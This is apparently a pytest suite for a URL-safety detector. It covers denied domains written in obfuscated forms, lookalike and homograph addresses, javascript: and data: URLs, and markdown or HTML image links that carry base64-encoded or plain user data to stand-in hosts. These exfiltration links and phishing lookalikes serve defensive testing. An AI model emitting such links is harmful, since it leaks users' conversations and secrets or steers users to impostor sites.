"""Links that are denied, that pose as others, that hold code, or that carry data away."""

from __future__ import annotations

import pytest

from guard.detectors.rules.addresses import host_of, parsed
from guard.detectors.rules.url import check, make
from guard.values import Item, Location, Role

DETECTOR = make("own", {"denied": ["evil.example", "例子.中国"]})
FENCED = make("own", {"allowed": ["ours.example"]})


def found(text: str, category: str, least: float = 0.5, detector=DETECTOR) -> list[str]:
    return [
        text[slice(*finding.span)]
        for finding in detector.detect([Item(text)])[0]
        if finding.category == f"url/{category}" and finding.score >= least and finding.span
    ]


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example",
        "http://EVIL.EXAMPLE./path",
        "https://a.b.evil.example:8443/x?y#z",
        "https://good.example@evil.example/",
        "https:\\\\evil.example\\x",
        "http://ｅｖｉｌ．example/",
        "http://ev%69l.example/",
        "https:evil.example",
        "evil.example/login",
        "www.evil.example",
        "https://good.example/out?to=https%3A%2F%2Fevil.example%2F",
        "https%3A%2F%2Fevil.example%2Fa",
        "http://xn--fsqu00a.xn--fiqs8s/",
        "例子.中国",
    ],
)
def test_a_denied_domain_is_found_however_it_is_written(url: str) -> None:
    assert url in found(f"see {url} now", "denied")


@pytest.mark.parametrize(
    "text",
    [
        "https://notevil.example",
        "https://evil.example.org/",
        "me@evil.example",
        "evil. example",
        "https://good.example/evil.example.txt",
    ],
)
def test_other_domains_and_mailboxes_are_not_denied(text: str) -> None:
    assert found(text, "denied") == []


def test_a_url_ends_before_the_sentence_and_the_bracket_around_it() -> None:
    assert found("(see https://evil.example/a_(b)), or **https://evil.example/c**.", "denied") == [
        "https://evil.example/a_(b)",
        "https://evil.example/c",
    ]


def test_with_an_allow_list_every_other_domain_is_denied() -> None:
    text = "https://ours.example/a www.ours.example main.py https://other.example/ shop.other.com"
    assert found(text, "denied", detector=FENCED) == ["https://other.example/", "shop.other.com"]


@pytest.mark.parametrize(
    "url",
    [
        "https://раураl.com",
        "https://gооgle.com/",
        "xn--pple-43d.com",
        "https://paypa1.com/login",
        "http://rnicrosoft.com",
        "https://google.com@evil.test/",
        "http://2130706433/",
        "http://0x7f000001/",
        "https://ours.ехample.org",
    ],
)
def test_an_address_that_poses_as_another_is_a_homograph(url: str) -> None:
    assert found(f"go to {url} please", "homograph") == [url]


@pytest.mark.parametrize(
    "url",
    [
        "https://paypal.com",
        "https://пример.рф",
        "https://bücher.de",
        "https://例え.jp",
        "http://127.0.0.1:8080/",
        "https://ελλάδα.gr",
    ],
)
def test_honest_addresses_of_any_script_are_no_homographs(url: str) -> None:
    assert found(url, "homograph") == []


@pytest.mark.parametrize(
    "text",
    [
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg",
        "javascript:alert(1)",
        "java\nscript:alert(1)",
        "[x](javascript:a)",
    ],
)
def test_urls_that_hold_code_or_data_are_found(text: str) -> None:
    assert found(text, "data")


@pytest.mark.parametrize("text", ["JavaScript: the good parts", "data: text/html", "metadata:a,b", "The data:image ratio"])
def test_words_before_a_colon_are_no_urls(text: str) -> None:
    assert found(text, "data") == []


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://x.test/i.png?d=YWxpY2UgcGFzc3dvcmQgaHVudGVyMg==)",
        "![a](<https://x.test/?q=what the user said>)",
        "![a\nb](\nhttps://x.test/?q=the+user+said+hello)",
        "![a][r]\n\n[r]: https://x.test/?q=the%20user%20said",
        '<img\n src="https://x.test/i?\nnote=call%20me%20now">',
        "<img alt=x src=//x.test/p?password=hunter2>",
        "![a](https://x.test/YWxpY2UgcGFzc3dvcmQgaHVudGVyMg/i.png)",
        "![a](https://YWxpY2UgcGFzc3dvcmQ.x.test/i.png)",
        "![a](https://x.test/i?q=%41%6c%69%63%65)",
        "[open](https://x.test/?d=YWxpY2UgcGFzc3dvcmQgaHVudGVyMg==)",
        "![a](https://x.test/i?u={{conversation}})",
    ],
)
def test_a_link_that_carries_data_away_is_exfiltration(text: str) -> None:
    assert found(text, "exfiltration")
    assert found(text.replace("x.test", "ours.example"), "exfiltration", detector=FENCED) == []


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://cdn.test/logo.png?w=200&h=100&auto=format)",
        "[docs](https://docs.python.org/3/library/re.html#re.compile)",
        "[find](https://www.google.com/search?q=how+to+bake+bread)",
        "https://youtube.com/watch?v=dQw4w9WgXcQ",
        "![local](/static/a.png?note=hello+my+friend)",
    ],
)
def test_images_and_links_that_carry_nothing_of_the_user_pass(text: str) -> None:
    assert found(text, "exfiltration") == []


def test_a_stream_holds_a_link_until_it_is_known() -> None:
    text = "so ![a](https://x.test/i.png?d=YWxpY2UgcGFzc3dvcmQgaHVudGVyMg==) and"
    mark = None
    for end in range(5, text.index(")")):
        scan = DETECTOR.scan(text[:end], 0, mark, final=False, role=Role.ASSISTANT, location=Location())
        mark = scan.mark
        assert scan.open <= 3


@pytest.mark.parametrize(
    ("written", "host"),
    [
        ("0x7f.1", "127.0.0.1"),
        ("017700000001", "127.0.0.1"),
        ("1.2.3.4.5", "1.2.3.4.5"),
        ("256.1.1.1", "256.1.1.1"),
        ("A。B", "a.b"),
    ],
)
def test_a_host_is_read_as_a_browser_reads_it(written: str, host: str) -> None:
    assert host_of(written) == host


def test_the_parts_of_an_address_are_kept_apart() -> None:
    address = parsed("https://u:p@h.test:1/a?b=c#d")
    assert (address.user, address.host, address.path, address.query, address.fragment) == ("u:p", "h.test", "/a", "b=c", "d")


def test_a_list_of_domains_with_something_else_is_a_mistake() -> None:
    assert [mistake.path for mistake in check({"denied": ["ok.test", "not a domain"], "brands": [""]})] == [
        ("denied", 1),
        ("brands", 0),
    ]
